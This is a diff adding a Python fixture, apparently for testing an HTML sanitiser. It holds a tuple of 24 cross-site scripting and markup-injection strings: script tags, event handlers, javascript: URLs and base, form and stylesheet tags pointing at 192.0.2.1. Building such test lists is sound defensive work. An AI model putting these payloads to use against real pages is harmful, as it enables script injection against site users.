@@ -1,0 +1,28 @@
+"""Strings that would run, fetch or break a page that let them through as markup."""
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "<img src=x onerror=alert(3)>",
+    "<svg onload=alert(4)>",
+    '"><script>alert(5)</script>',
+    "' onmouseover='alert(6)",
+    '" onfocus="alert(7)" autofocus="',
+    "<iframe src=javascript:alert(8)></iframe>",
+    '<a href="javascript:alert(9)">x</a>',
+    "<style>@import 'http://192.0.2.1/x.css'</style>",
+    "</style><script>alert(11)</script>",
+    "</title><script>alert(12)</script>",
+    "<!--<script>alert(13)</script>-->",
+    "--><script>alert(14)</script>",
+    "]]><script>alert(15)</script>",
+    "{{ 7 * 7 }}{% for x in y %}<script>alert(16)</script>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(17)'>",
+    "<base href='http://192.0.2.1/'>",
+    "<form action='http://192.0.2.1/'><input autofocus onfocus=alert(19)></form>",
+    "<object data='data:text/html,<script>alert(20)</script>'></object>",
+    "\u2028<script>alert(21)</script>\u2029",
+    "&lt;script&gt;alert(22)&lt;/script&gt;",
+    "<math><mtext><script>alert(23)</script></mtext></math>",
+    "<ScRiPt >alert(24)</sCrIpT >",
+)
